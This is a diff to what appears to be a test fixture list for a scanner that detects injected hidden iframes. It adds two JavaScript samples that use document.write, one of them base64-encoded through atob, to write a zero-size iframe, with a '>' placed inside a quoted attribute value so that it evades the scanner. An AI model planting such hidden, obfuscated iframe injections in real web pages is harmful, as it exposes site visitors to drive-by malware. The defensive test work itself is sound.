@@ -409,6 +409,11 @@ WRITTEN_FRAMES: list[tuple[str, str]] = [
      "u + '\" width=\"0\" height=\"0\"></iframe>');"),
     ("its address in a template literal", 'const u = "http://stat-counter7.example/in.cgi?3";'
      ' document.write(`<iframe src="${u}" width="0" height="0"></iframe>`);'),
+    # a `>` inside a quoted value ends no tag in HTML; the scanner ended the tag there
+    ("a > in a quoted value", "document.write('" + _KIT_FRAME.replace(
+        "<iframe ", '<iframe title="a>b" ') + "');"),
+    ("a > in a quoted value, atob", "document.write(atob('" + base64.b64encode(
+        _KIT_FRAME.replace("<iframe ", "<iframe data-x='1>0' ").encode()).decode() + "'));"),
 ]
 
 
